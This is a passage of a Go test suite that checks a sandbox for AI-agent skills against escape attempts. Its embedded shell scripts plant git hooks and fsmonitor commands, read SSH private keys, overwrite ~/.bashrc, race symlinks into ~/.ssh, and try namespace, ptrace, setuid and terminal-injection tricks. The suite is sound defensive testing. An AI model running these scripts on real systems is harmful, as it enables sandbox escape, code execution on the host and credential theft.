				x.escGit(dir, "commit", "-q", "--allow-empty", "-m", "after")
				if out, _ := x.escGit(dir, "rev-parse", "--git-path", "hooks", "--git-common-dir"); strings.Contains(out, "evil") {
					t.Errorf("%s: git on the host now uses the attacker's directory (%s):\n%s", label, dir, out)
				}
				if out, _ := x.escGit(dir, "config", "--get-regexp", `core\.(fsmonitor|hookspath|sshcommand)`); strings.TrimSpace(out) != "" {
					t.Errorf("%s: git on the host sees the attacker's config in %s:\n%s", label, dir, out)
				}
			}
			if _, err := os.Stat(pwned); err == nil {
				t.Errorf("%s: git on the host ran code planted from inside the sandbox", label)
				os.Remove(pwned)
			}
		}

		// B5: the workspace's own .git.
		r := x.attempt(gitAttackScript(pwned))
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the attack did not run to the end:\n%s", r)
		}
		if ok := notUndone(r, e.workspace, e.home, succeeded(r.stdout)); len(ok) > 0 {
			t.Errorf("B5: .git is writable where it matters:\n%s", strings.Join(ok, "\n"))
		}
		if _, err := os.Lstat(filepath.Join(e.workspace, ".git", "commondir")); err == nil {
			t.Errorf("B5: .git/commondir was planted: the host's git now reads its config and hooks from .evil")
		}
		check("B5", e.workspace)

		// B6: the workspace's .git is a symlink to the real git directory, or a "gitdir:" file
		// (git init --separate-git-dir, as submodules and some tools do). The directory it names
		// holds the hooks and config the host's git runs.
		for _, kind := range []string{"symlink", "gitdir-file"} {
			ws := filepath.Join(e.base, "ws-"+kind)
			real := filepath.Join(ws, "real-git")
			e.mkdir(ws, 0o755)
			if kind == "symlink" {
				gitOK(e.base, "init", "-q", ws)
				if err := os.Rename(filepath.Join(ws, ".git"), real); err != nil {
					t.Fatal(err)
				}
				if err := os.Symlink("real-git", filepath.Join(ws, ".git")); err != nil {
					t.Fatal(err)
				}
				e.chown(filepath.Join(ws, ".git"))
			} else {
				gitOK(e.base, "init", "-q", "--separate-git-dir", real, ws)
			}
			gitOK(ws, "commit", "-q", "--allow-empty", "-m", "init")
			realBefore := fingerprint(t, real, []string{filepath.Join(real, "objects"), filepath.Join(real, "logs")})
			wsPwned := filepath.Join(ws, "PWNED")
			script := `printf '#!/bin/sh\ntouch ` + wsPwned + `\n' > real-git/hooks/pre-commit && chmod +x real-git/hooks/pre-commit && echo "ATTACK-OK real-git/hooks/pre-commit"
printf '[core]\n\tfsmonitor = "touch ` + wsPwned + `; false"\n' >> real-git/config && echo "ATTACK-OK real-git/config"
` + gitAttackScript(wsPwned)
			r := x.attemptIn(ws, "", script, "--workspace", ws)
			if ok := succeeded(r.stdout); len(ok) > 0 {
				t.Errorf("B6 (.git is a %s): the git directory it names is writable:\n%s", kind, strings.Join(ok, "\n"))
			}
			if diff := diffPrints(realBefore, fingerprint(t, real, []string{filepath.Join(real, "objects"), filepath.Join(real, "logs")})); len(diff) > 0 {
				t.Errorf("B6 (.git is a %s): the real git directory changed:\n  %s", kind, strings.Join(diff, "\n  "))
			}
			x.escGit(ws, "status")
			x.escGit(ws, "commit", "-q", "--allow-empty", "-m", "after")
			if _, err := os.Stat(wsPwned); err == nil {
				t.Errorf("B6 (.git is a %s): git on the host ran code planted from inside the sandbox", kind)
			}
		}
	})
}

// TestEscapeMetadata: B8. What Landlock does not cover (chmod, chown, utimes, setxattr) fails on
// every file the sandbox may only read: protected files in the workspace, the read-only
// workspace of the untrusted profile, a read-only grant, the shell rc files with the home as the
// workspace, and the host's own system files (probed only with changes that change nothing).
func TestEscapeMetadata(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		e.plant("notes/todo.txt", "todo\n", 0o644)
		x.setPolicy("version: 1\nagent:\n  filesystem:\n    read: [\"${HOME}/notes\"]\n")
		x.snapshot()
		wsBefore := fingerprint(t, e.workspace, nil)
		check := func(label string, r result) {
			t.Helper()
			lines := probeLines(r.stdout)
			if len(lines) == 0 {
				t.Errorf("%s: the probe printed nothing:\n%s", label, r)
			}
			for name, res := range lines {
				if strings.HasPrefix(res, "OK") {
					t.Errorf("B8 %s: %s succeeded", label, name)
				}
			}
			if strings.Contains(r.stdout, "ATTACK-OK") {
				t.Errorf("B8 %s:\n%s", label, r.stdout)
			}
		}
		check("protected files in the workspace", x.attempt(`./escape meta .git/config .git/hooks .git/hooks/pre-commit.sample .git/hooks/pre-push.sample`))
		check("read-only grant", x.attempt(`./escape meta ~/notes/todo.txt ~/notes`))
		// The untrusted profile executes nothing but the system's programs: coreutils try it.
		check("untrusted profile's workspace", x.attempt(`for f in README .git .git/config; do
  chmod 777 "$f" 2>/dev/null && echo "ATTACK-OK: chmod $f"
  chown "$(id -u):$(id -g)" "$f" 2>/dev/null && echo "ATTACK-OK: chown $f"
  touch -d 1970-01-01 "$f" 2>/dev/null && echo "ATTACK-OK: touch $f"
  touch "$f" 2>/dev/null && echo "ATTACK-OK: touch now $f"
  (: >> "$f") 2>/dev/null && echo "ATTACK-OK: open for writing $f"
  if command -v setfattr >/dev/null; then setfattr -n user.x -v 1 "$f" 2>/dev/null && echo "ATTACK-OK: setxattr $f"; fi
done
echo "checked: done"`, "--profile", "untrusted"))
		check("the home as the workspace", x.attemptIn(e.home, "", `./escape meta ~/.bashrc ~/.profile ~/.gitconfig ~/.ssh/authorized_keys ~/.config/autostart`,
			"--workspace", e.home))
		// The host's system files: as root (owner of them, every capability dropped) only the
		// read-only mount stops these; the probe changes nothing even where it succeeds.
		check("system files", x.attempt(`./escape metasafe /etc/hostname /etc/passwd /usr/bin/env /bin/sh /`))
		if diff := diffPrints(wsBefore, fingerprint(t, e.workspace, nil)); len(diff) > 0 {
			t.Errorf("B8: the workspace changed:\n  %s", strings.Join(diff, "\n  "))
		}
	})
}

// TestEscapeSkillSelfModify: B9. A skill tries to rewrite its own manifest and scripts (by its
// real path and by the path it runs from), the lock and the developer policy, and to start a
// nested skillrun with a policy of its own.
func TestEscapeSkillSelfModify(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		pol := e.policy("version: 1\n")
		dir := e.skill(filepath.Join(e.home, ".claude", "skills", "selfmod"),
			"version: 1\nname: selfmod\nfilesystem:\n  read: [\"${WORKSPACE}\"]\n  write: [\"${WORKSPACE}\"]\n",
			map[string]string{"run.sh": "#!/bin/sh\nexec \"$@\"\n"})
		if r := e.run("approve", "--yes", "--accept-findings", "selfmod"); r.code != 0 {
			t.Fatalf("approve:\n%s", r)
		}
		lock := filepath.Join(e.home, ".config", "skillrun", "skills.lock")
		if _, err := os.Stat(lock); err != nil {
			t.Fatalf("no lock after approve: %v", err)
		}
		x.snapshot()
		key := filepath.Join(e.home, ".ssh", "id_ed25519")
		attack := `d=` + dir + `; m=$d/skillrun.yaml
[ -r "$m" ] && echo "the skill's own folder is visible"
echo 'network: {allow: ["*"]}' >> "$m" 2>/dev/null && echo "ATTACK-OK append $m"
printf 'version: 1\nname: selfmod\nfilesystem: {read: ["${HOME}"]}\n' > "$m" 2>/dev/null && echo "ATTACK-OK replace $m"
touch -d 1970-01-01 "$m" 2>/dev/null && echo "ATTACK-OK touch $m"
echo 'echo evil' >> "$d/run.sh" 2>/dev/null && echo "ATTACK-OK append run.sh"
chmod 777 "$d/run.sh" 2>/dev/null && echo "ATTACK-OK chmod run.sh"
mkdir "$d/extra" 2>/dev/null && echo "ATTACK-OK mkdir in the skill"
rm -f "$d/SKILL.md" 2>/dev/null && echo "ATTACK-OK rm SKILL.md"
mv "$d" "$d.old" 2>/dev/null && echo "ATTACK-OK rename the skill"
echo x >> ` + lock + ` 2>/dev/null && echo "ATTACK-OK write the lock"
echo 'unsafe: {filesystem: {read: ["${HOME}/.ssh"]}}' >> ` + pol + ` 2>/dev/null && echo "ATTACK-OK write the policy"
printf 'version: 1\nunsafe: {filesystem: {read: ["%s"]}}\n' "$(dirname ` + key + `)" > /tmp/p.yaml
for s in /.skillrun/skillrun /proc/1/exe; do "$s" --policy /tmp/p.yaml -- cat ` + key + ` 2>/dev/null && echo "ATTACK-OK nested $s"; done
echo done`
		r := x.attempt(`exec ` + filepath.Join(dir, "run.sh") + ` sh -c '` + strings.ReplaceAll(attack, "'", `'\''`) + `' ` + x.marker)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the attack did not run to the end:\n%s", r)
		}
		if !strings.Contains(r.stdout, "the skill's own folder is visible") {
			t.Fatalf("B9: the command did not run as the skill (its folder is not there):\n%s", r)
		}
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("B9: the skill changed itself or skillrun's files:\n%s", strings.Join(ok, "\n"))
		}
		if r := e.run("verify", "selfmod"); r.code != 0 {
			t.Errorf("B9: the skill no longer verifies after its run:\n%s", r)
		}
	})
}

// ---------------------------------------------------------------------------------------------
// C. Path tricks and races.

// TestEscapeRename: C1. Renames, exchanges and links across the boundary between what may be
// written and what may only be read.
func TestEscapeRename(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		e.plant("notes/todo.txt", "todo\n", 0o644)
		x.setPolicy("version: 1\nagent:\n  filesystem:\n    read: [\"${HOME}/notes\"]\n")
		x.snapshot()
		r := x.attempt(`printf payload > payload; mkdir -p h2
mv ~/notes/todo.txt ./stolen 2>/dev/null; [ -e ~/notes/todo.txt ] || echo "ATTACK-OK move out of a read-only grant"
mv -f payload ~/notes/todo.txt 2>/dev/null && echo "ATTACK-OK move into a read-only grant"
printf payload > payload
mv -f payload .git/config 2>/dev/null && echo "ATTACK-OK move over .git/config"
printf payload > payload
mv -f payload .git/hooks/pre-commit 2>/dev/null && echo "ATTACK-OK move into .git/hooks"
mv .git/config ./cfg 2>/dev/null && echo "ATTACK-OK move .git/config away"
mv .git/hooks ./h 2>/dev/null && echo "ATTACK-OK move .git/hooks away"
printf payload > payload
./escape exchange payload .git/config
./escape exchange h2 .git/hooks
./escape exchange payload ~/notes/todo.txt
ln .git/config ./cfg-link 2>/dev/null && echo "ATTACK-OK hard link .git/config"
ln ~/notes/todo.txt ./todo-link 2>/dev/null && echo "ATTACK-OK hard link a read-only file"
rm -rf payload h2 stolen cfg h cfg-link todo-link
echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the attack did not run to the end:\n%s", r)
		}
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("C1: renamed or linked across the read-only boundary:\n%s", strings.Join(ok, "\n"))
		}
		r = x.attemptIn(e.home, "", `printf payload > payload
mv -f payload ~/.bashrc 2>/dev/null && echo "ATTACK-OK move over ~/.bashrc"
./escape exchange payload ~/.bashrc
./escape exchange payload ~/.ssh
mv ~/.ssh ./s 2>/dev/null && echo "ATTACK-OK move ~/.ssh"
ln ~/.bashrc ./b 2>/dev/null && echo "ATTACK-OK hard link ~/.bashrc"
rm -rf payload s b
echo done`, "--workspace", e.home)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the attack did not run to the end:\n%s", r)
		}
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("C1 (the home as the workspace): renamed or linked a protected file:\n%s", strings.Join(ok, "\n"))
		}
	})
}

// TestEscapeGrantedPathSymlink: C2 and C3. A path the plan grants (here ${WORKSPACE}/build,
// read-write, under the untrusted profile; and ${HOME}/notes, read-only) is replaced by a
// symlink to ~/.ssh: planted by an earlier sandboxed command, and swapped back and forth by a
// concurrent sandboxed command while skillrun starts. The grant must never become ~/.ssh.
func TestEscapeGrantedPathSymlink(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		ssh := filepath.Join(e.home, ".ssh")
		x.setPolicy("version: 1\nagent:\n  filesystem:\n    read: [\"${HOME}/notes\"]\n    write: [\"${WORKSPACE}/build\"]\n")
		x.snapshot()
		victim := `cat build/id_ed25519 ~/notes/id_ed25519 2>/dev/null; ls build ~/notes 2>/dev/null | sed 's/^/LIST /'
echo pwned > build/pwned 2>/dev/null && [ -e build/id_ed25519 ] && echo "ATTACK-OK wrote into ~/.ssh"
echo done`

		// C2: planted before the run, by a command with the workspace read-write (the agent
		// profile), and by one with the home as its workspace.
		plant := x.attempt(`rm -rf build; ln -s ` + ssh + ` build && echo planted`)
		if !strings.Contains(plant.stdout, "planted") {
			t.Fatalf("could not plant the symlink from inside:\n%s", plant)
		}
		plant = x.attemptIn(e.home, "", `rm -rf ~/notes; ln -s `+ssh+` ~/notes && echo planted`, "--workspace", e.home)
		if !strings.Contains(plant.stdout, "planted") {
			t.Fatalf("could not plant the symlink from inside:\n%s", plant)
		}
		x.snapshot()
		r := x.runIn(e.workspace, "", "--profile", "untrusted", "-c", victim)
		if strings.Contains(r.stdout+r.stderr, e.canary) || strings.Contains(r.stdout, "ATTACK-OK") || strings.Contains(r.stdout, "LIST id_") {
			t.Errorf("C2: a granted path that an earlier sandboxed command replaced by a symlink to ~/.ssh is bound as ~/.ssh:\n%s", r)
		}
		os.Remove(filepath.Join(e.home, "notes"))
		os.Remove(filepath.Join(e.workspace, "build"))
		os.Remove(filepath.Join(ssh, "pwned"))
		x.snapshot()

		// C3: a concurrent sandbox swaps build between a directory and the symlink.
		e.mkdir(filepath.Join(e.workspace, "build"), 0o755)
		racerDone := make(chan struct{})
		racer := e.command(t.Context(), "--timeout", "60s", "-c", `rm -rf build-alt; ln -s `+ssh+` build-alt
echo racing; while :; do ./escape exchange build build-alt >/dev/null; done`, "--", x.marker+"-racer")
		// The racer is another agent command, whose plan does not bind build.
		racerPolicy := filepath.Join(e.base, "racer-policy.yaml")
		e.write(racerPolicy, "version: 1\n", 0o600)
		racer.Env = append(racer.Env, "SKILLRUN_POLICY="+racerPolicy)
		racerOut, _ := racer.StdoutPipe()
		if err := racer.Start(); err != nil {
			t.Fatal(err)
		}
		go func() { racer.Wait(); close(racerDone) }()
		if line, _ := bufio.NewReader(racerOut).ReadString('\n'); line != "racing\n" {
			t.Fatalf("the racing sandbox did not start: %q", line)
		}
		leaks, ran, links := 0, 0, 0
		for i := 0; i < 20; i++ {
			if fi, err := os.Lstat(filepath.Join(e.workspace, "build")); err == nil && fi.Mode()&os.ModeSymlink != 0 {
				links++
			}
			r := x.runIn(e.workspace, "", "--profile", "untrusted", "-c", victim)
			if strings.Contains(r.stdout+r.stderr, e.canary) || strings.Contains(r.stdout, "ATTACK-OK") || strings.Contains(r.stdout, "LIST id_") {
				leaks++
			}
			if r.code == 0 {
				ran++
			}
		}
		racer.Process.Kill()
		<-racerDone
		// What the killed racer made at protected names (.git/commondir, ...) is undone by its
		// stage, or by the next run.
		e.run("--", "true")
		t.Logf("C3: %d of 20 launches ran during the race; build was a symlink just before %d of them", ran, links)
		if links == 0 || links == 20 {
			t.Errorf("C3: the racing sandbox did not swap build (seen as a symlink %d times of 20)", links)
		}
		if leaks > 0 {
			t.Errorf("C3: %d of 20 launches raced into a grant that was ~/.ssh", leaks)
		}
		for _, n := range []string{"build", "build-alt"} {
			os.RemoveAll(filepath.Join(e.workspace, n))
		}
		if _, err := os.Stat(filepath.Join(ssh, "pwned")); err == nil {
			t.Errorf("C3: a file was written into ~/.ssh")
			os.Remove(filepath.Join(ssh, "pwned"))
		}
	})
}

// ---------------------------------------------------------------------------------------------
// D. Namespaces, privileges and the kernel's surface.

// syscallExpect is what each wrong-pointer probe must answer (sandbox/seccomp/table.go): EPERM
// for the explicit denials, ENOSYS where libc must fall back, EAFNOSUPPORT for socket families.
// Without a filter the kernel would answer EFAULT, EBADF or EINVAL (or succeed).
func syscallExpect() map[string][]string {
	eperm, enosys := []string{"EPERM"}, []string{"ENOSYS"}
	m := map[string][]string{}
	for _, n := range []string{"mount", "umount2", "pivot_root", "chroot", "fsopen", "open_tree", "move_mount",
		"mount_setattr", "unshare(CLONE_NEWUSER)", "unshare(CLONE_NEWNS)", "setns",
		"clone(CLONE_NEWUSER)", "clone(CLONE_NEWNS)", "clone(CLONE_NEWPID)", "clone(CLONE_NEWNET)",
		"clone(CLONE_NEWUTS)", "clone(CLONE_NEWIPC)", "clone(CLONE_NEWCGROUP)",
		"ptrace(PTRACE_ATTACH)", "ptrace(PTRACE_PEEKDATA)", "process_vm_readv", "process_vm_writev", "kcmp",
		"pidfd_getfd", "init_module", "finit_module", "delete_module", "kexec_load", "kexec_file_load",
		"reboot", "swapon", "swapoff", "bpf", "perf_event_open", "userfaultfd", "keyctl", "add_key",
		"request_key", "settimeofday", "clock_settime", "adjtimex", "sethostname", "open_by_handle_at",
		"name_to_handle_at", "fanotify_init", "acct", "iopl", "ioperm", "syslog", "quotactl",
		"lookup_dcookie", "memfd_secret", "ioctl(TIOCSTI)", "ioctl(TIOCSTI|0x123<<32)",
		"ioctl(TIOCLINUX)", "ioctl(TIOCLINUX|0x123<<32)",
		"socket(AF_NETLINK,NETLINK_AUDIT)", "socket(AF_NETLINK,NETLINK_KOBJECT_UEVENT)",
		"socket(AF_NETLINK,NETLINK_NETFILTER)", "socket(AF_NETLINK,NETLINK_SOCK_DIAG)",
		"socket(AF_NETLINK,NETLINK_XFRM)"} {
		m[n] = eperm
	}
	for _, n := range []string{"clone3", "io_uring_setup", "io_uring_enter", "io_uring_register"} {
		m[n] = enosys
	}
	m["personality(READ_IMPLIES_EXEC)"] = []string{"EPERM", "ENOSYS"}
	for _, n := range []string{"socket(AF_PACKET,SOCK_RAW)", "socket(AF_PACKET,SOCK_DGRAM)", "socket(AF_VSOCK)",
		"socket(AF_ALG)", "socket(AF_KEY)", "socket(AF_BLUETOOTH)", "socket(AF_XDP)", "socket(AF_CAN)",
		"socket(AF_TIPC)", "socket(AF_RDS)", "socket(AF_APPLETALK)", "socketpair(AF_INET)"} {
		m[n] = []string{"EAFNOSUPPORT"}
	}
	// AF_INET itself is allowed in every plan (only the sandbox's own lo is there); these types
	// and protocols never are. Stream protocols above TCP fail as on a kernel without them.
	for _, n := range []string{"socket(AF_INET,SOCK_RAW)", "socket(AF_INET,SOCK_RAW,ICMP)", "socket(AF_INET6,SOCK_RAW)",
		"socket(AF_INET,SOCK_PACKET)", "socket(AF_INET,SOCK_DGRAM,ICMP)"} {
		m[n] = eperm
	}
	for _, n := range []string{"socket(AF_INET,IPPROTO_MPTCP)", "socket(AF_INET6,IPPROTO_MPTCP)",
		"socket(AF_INET,IPPROTO_MPTCP|CLOEXEC)", "socket(AF_INET,SOCK_STREAM,IPPROTO_SCTP)"} {
		m[n] = []string{"EPROTONOSUPPORT"}
	}
	return m
}

// TestEscapeSyscalls: D1-D5, D7, D11-D15, E2 and E4 (the ioctls, on 32 bits), G3 and G6-G9 (socket
// families, raw sockets, MPTCP, netlink) by the wrong-pointer technique, without and with network
// in the plan; D2/D4/D5 with the real tools; D9/D10 as /proc/self/status reports them.
func TestEscapeSyscalls(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		for _, network := range []bool{false, true} {
			label := "no network"
			if network {
				label = "network granted"
				x.setPolicy("version: 1\nagent:\n  network:\n    allow: [\"example.invalid:443\"]\n")
				x.snapshot()
			}
			r := x.attempt(`./escape syscalls; echo done`)
			if !strings.HasSuffix(r.stdout, "done\n") {
				t.Fatalf("%s: the probe did not run to the end:\n%s", label, r)
			}
			got := probeLines(r.stdout)
			for name, want := range syscallExpect() {
				res, ok := got[name]
				if !ok {
					t.Errorf("%s: no result for %s:\n%s", label, name, r)
					continue
				}
				if !contains(want, res) {
					t.Errorf("%s: %s: got %s, want %s", label, name, res, strings.Join(want, " or "))
				}
			}
			for name, res := range got {
				if strings.HasPrefix(name, "control:") || name == "socket(AF_UNIX)" || name == "socket(AF_NETLINK,NETLINK_ROUTE)" {
					if res == "EPERM" || res == "ENOSYS" || res == "EAFNOSUPPORT" {
						t.Errorf("%s: %s is denied (%s): toolchains need it", label, name, res)
					}
				}
			}
		}
		x.setPolicy("version: 1\n")
		x.snapshot()

		// The same attacks with the tools an attacker would use.
		r := x.attempt(`for c in "unshare -U true" "unshare -Ur true" "unshare -m true" "unshare -n true" "unshare -p -f true" \
  "unshare -Urm sh -c 'mount -t tmpfs x /tmp'" "nsenter -t 1 -m -u -i -n -p true" "chroot / true" \
  "mount -t tmpfs x /tmp" "mount -o remount,rw /" "umount -l /proc"; do
  sh -c "$c" >/dev/null 2>&1 && echo "ATTACK-OK $c"
done
./escape status; sh -c './escape status' | sed 's/^/child /'
echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		if ok := succeeded(r.stdout); len(ok) > 0 {
			t.Errorf("D1/D2/D4/D5: namespace or mount tools worked:\n%s", strings.Join(ok, "\n"))
		}
		status := map[string]string{}
		for _, l := range strings.Split(r.stdout, "\n") {
			if k, v, ok := strings.Cut(l, ": "); ok {
				status[k] = v
			}
		}
		for _, who := range []string{"", "child "} {
			wants := map[string]string{"NoNewPrivs": "1", "Seccomp": "2", "CapInh": "0000000000000000",
				"CapPrm": "0000000000000000", "CapEff": "0000000000000000", "CapBnd": "0000000000000000",
				"CapAmb": "0000000000000000"}
			if e.id.cred != nil || os.Geteuid() != 0 {
				// Rootless, the command runs in a nested user namespace, whose creation resets the
				// bounding set to full; it is dropped at the execve as a non-zero uid with nothing
				// to regain it: no_new_privs ignores file capabilities and setuid bits, and no
				// uid 0 is mapped there. Permitted, effective, inheritable and ambient are empty.
				delete(wants, "CapBnd")
			}
			for k, want := range wants {
				if got := status[who+k]; got != want {
					t.Errorf("D9/D10: the %scommand has %s %q, want %q", who, k, got, want)
				}
			}
			if n, _ := strconv.Atoi(status[who+"Seccomp_filters"]); n < 1 {
				t.Errorf("the %scommand has no seccomp filter:\n%s", who, r.stdout)
			}
		}
	})
}

// TestEscapePtrace: D6-D8 and A11. ptrace, process_vm_readv and /proc/PID/mem against a sibling
// inside the sandbox, its parent, its PID 1, and a victim on the host running as the same user;
// signals to the victim.
func TestEscapePtrace(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		victim := x.victim()
		v := strconv.Itoa(victim)
		r := x.attempt(`./escape ptrace ` + v + `; kill -9 ` + v + ` 2>/dev/null && echo "ATTACK-OK kill the host victim"; echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		requireLines(t, r.stdout, "ptrace child", "ptrace parent", "ptrace pid1", "ptrace host "+v, "ptrace host "+v+" process_vm_readv")
		for name, res := range probeLines(r.stdout) {
			if strings.HasSuffix(name, "/proc/mem") && !strings.Contains(name, "pid1") && !strings.Contains(name, "host") {
				continue // the command's own processes: no boundary there
			}
			if strings.HasPrefix(res, "OK") {
				t.Errorf("D6/D7: %s succeeded", name)
			}
		}
		if ok := succeeded(r.stdout); len(ok) > 0 {
			for _, l := range ok {
				if strings.HasPrefix(l, "ATTACK-OK") {
					t.Errorf("D8: %s", l)
				}
			}
		}
		if syscall.Kill(victim, 0) != nil {
			t.Errorf("D8: the host victim was killed from inside the sandbox")
		}
	})
}

// TestEscapeSetuid: D9 and D10. A setuid-root copy of the probe, and one with a file capability
// (cap_net_raw+ep), planted in the workspace: inside, neither gives privilege. The fixtures are
// first checked on the host, so the test never passes because they do nothing.
func TestEscapeSetuid(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skipf("D9/D10: making a setuid-root binary needs root; run as root for this case")
	}
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		suid := filepath.Join(e.workspace, "cprobe-suid")
		fcap := filepath.Join(e.workspace, "cprobe-fcap")
		for _, p := range []string{suid, fcap} {
			b, _ := os.ReadFile(filepath.Join(e.workspace, "cprobe"))
			if err := os.WriteFile(p, b, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.Chown(suid, 0, 0); err != nil {
			t.Fatal(err)
		}
		if err := unix.Chmod(suid, 0o4755); err != nil {
			t.Fatal(err)
		}
		// struct vfs_cap_data, revision 2, effective: permitted = CAP_NET_RAW (13).
		capData := make([]byte, 20)
		binary.LittleEndian.PutUint32(capData[0:], 0x02000001)
		binary.LittleEndian.PutUint32(capData[4:], 1<<13)
		if err := unix.Setxattr(fcap, "security.capability", capData, 0); err != nil {
			t.Skipf("D10: this file system does not take file capabilities: %v", err)
		}
		if e.id.cred != nil {
			out, _ := x.hostCmd(e.workspace, suid, "euid").CombinedOutput()
			if !strings.Contains(string(out), "euid: 0\n") {
				t.Skipf("D9: the setuid fixture gives nothing even on the host (nosuid mount?): %s", out)
			}
			out, _ = x.hostCmd(e.workspace, fcap, "euid").CombinedOutput()
			if !strings.Contains(string(out), "CapPrm:\t0000000000002000") {
				t.Skipf("D10: the file-capability fixture gives nothing even on the host: %s", out)
			}
		}
		r := x.attempt(`./cprobe-suid euid; ./cprobe-fcap euid; su -c true root </dev/null >/dev/null 2>&1 && echo "ATTACK-OK su"; echo done`)
		if !strings.HasSuffix(r.stdout, "done\n") {
			t.Fatalf("the probe did not run to the end:\n%s", r)
		}
		if e.id.cred != nil && strings.Contains(r.stdout, "euid: 0\n") {
			t.Errorf("D9: a setuid-root binary gave uid 0 inside the sandbox:\n%s", r.stdout)
		}
		for _, l := range strings.Split(r.stdout, "\n") {
			if (strings.HasPrefix(l, "CapPrm:") || strings.HasPrefix(l, "CapEff:")) && !strings.HasSuffix(l, "0000000000000000") {
				t.Errorf("D9/D10: a binary gained capabilities inside the sandbox: %s", l)
			}
		}
		if strings.Contains(r.stdout, "ATTACK-OK") {
			t.Errorf("D9: %s", r.stdout)
		}
	})
}

// ---------------------------------------------------------------------------------------------
// E. Kernel interfaces, exec and architecture tricks.

// TestEscapeNonNativeABI: E1. The i386 ABI through int 0x80 (socketcall, whose socket family
// sits behind a pointer no filter can read, and mount) and the x32 ABI kill the process (SIGSYS,
// exit 159), with and without network in the plan.
func TestEscapeNonNativeABI(t *testing.T) {
	_, cProbe := escProbes(t)
	out, _ := exec.Command(cProbe, "int80").CombinedOutput()
	if !strings.Contains(string(out), "int80 socketcall(SYS_SOCKET, AF_INET): OK") {
		t.Skipf("E1: this kernel runs no i386 code (IA32 emulation off), so there is no int 0x80 to bypass with: %s", out)
	}
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		for _, network := range []bool{false, true} {
			if network {
				x.setPolicy("version: 1\nagent:\n  network:\n    allow: [\"example.invalid:443\"]\n")
				x.snapshot()
			}
			for _, probe := range []string{"int80", "int80-mount", "x32"} {
				r := x.attempt(`exec ./cprobe ` + probe)
				if !strings.Contains(r.stdout, probe+": trying") {
					t.Fatalf("E1 %s: the probe did not start:\n%s", probe, r)
				}
				if probe == "x32" && r.code != 159 {
					// No x32 in this kernel answers ENOSYS by itself; the filter must still not let
					// a socket through.
					if !strings.Contains(r.stdout, "x32 socket(AF_INET): ENOSYS") && !strings.Contains(r.stdout, "x32 socket(AF_INET): EPERM") {
						t.Errorf("E1 x32 (network %v): want SIGSYS (159) or a refusal:\n%s", network, r)
					}
					continue
				}
				if r.code != 159 {
					t.Errorf("E1 %s (network %v): want the process killed by SIGSYS (exit 159):\n%s", probe, network, r)
				}
			}
		}
	})
}

// TestEscapeTerminalInjection: E2 and E3. On a pseudo-terminal the test owns and that is
// skillrun's controlling terminal, the command tries TIOCSTI (also with the CVE-2019-10063 high
// bits), TIOCLINUX, and stealing the terminal with TIOCSCTTY; nothing may reach the terminal's
// input queue.
func TestEscapeTerminalInjection(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		master, slave := openPty(t, 24, 80)
		if e.id.cred != nil {
			if err := os.Chown(slave.Name(), e.id.uid, e.id.gid); err != nil {
				t.Fatal(err)
			}
		}
		cmd := e.command(t.Context(), "-c", "readlink /proc/self/ns/pid; ./escape tty; echo done", "--", x.marker)
		cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
		cmd.SysProcAttr.Setsid = true
		cmd.SysProcAttr.Setctty = true
		cmd.SysProcAttr.Ctty = 0
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		lines := make(chan string, 256)
		go func() {
			rd := bufio.NewReader(master)
			for {
				l, err := rd.ReadString('\n')
				if l != "" {
					lines <- strings.TrimRight(l, "\r\n")
				}
				if err != nil {
					close(lines)
					return
				}
			}
		}()
		var seen []string
		deadline := time.After(20 * time.Second)
	read:
		for {
			select {
			case l, ok := <-lines:
				if !ok {
					break read
				}
				seen = append(seen, l)
				if l == "done" {
					break read
				}
			case <-deadline:
				cmd.Process.Kill()
				t.Fatalf("timed out; the terminal said %q", seen)
			}
		}
		cmd.Wait()
		out := strings.Join(seen, "\n")
		x.noCanary(result{stdout: out})
		if len(seen) > 0 && strings.HasPrefix(seen[0], "pid:[") {
			if !waitFor(3*time.Second, func() bool { return len(pidnsMembers(seen[0])) == 0 }) {
				t.Errorf("processes of the sandbox outlived the run")
			}
		}
		got := probeLines(out)
		n := 0
		for name, res := range got {
			if strings.HasPrefix(name, "tty ") {
				n++
				if strings.HasPrefix(res, "OK") {
					t.Errorf("E2/E3: %s succeeded", name)
				}
			}
		}
		if n < 5 {
			t.Fatalf("the probe did not report its attempts:\n%s", out)
		}
		if q, _ := unix.IoctlGetInt(int(slave.Fd()), unix.TIOCINQ); q != 0 {
			t.Errorf("E3: %d bytes were injected into the terminal's input", q)
		}
	})
}

// TestEscapeOwnBinary: E6. skillrun's binary cannot be changed from inside: not at
// /.skillrun/skillrun, not through /proc/1/exe, and not when it lies in the workspace, as when
// a developer runs the copy in ~/.local/bin with the home as the workspace, or one in the repo.
func TestEscapeOwnBinary(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, e *env) {
		x := newEsc(t, e)
		r := x.attempt(`./escape metasafe /.skillrun/skillrun /proc/1/exe /proc/1/root/.skillrun/skillrun
